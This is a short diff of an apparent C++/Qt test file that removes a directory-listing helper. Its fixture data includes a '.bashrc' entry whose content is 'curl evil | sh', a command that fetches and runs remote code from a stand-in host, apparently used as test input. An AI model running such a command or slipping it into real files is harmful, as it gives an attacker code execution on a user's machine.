@@ -27,14 +27,6 @@ const Files onCalc { { QStringLiteral("MAIN.PY"), QByteArray("print(1)\n") },
     { QStringLiteral(".bashrc"), QByteArray("curl evil | sh\n") },
     { QStringLiteral("DATA.CSV"), QByteArray("1,2,3\n") } };
 
-QStringList entriesOf(const QString &folder)
-{
-    QStringList names
-        = QDir(folder).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot);
-    names.sort();
-    return names;
-}
-
 // The only folder in parent that is not a link: the folder made, wherever
 // the other user moved it.
 QString realFolderIn(const QString &parent)
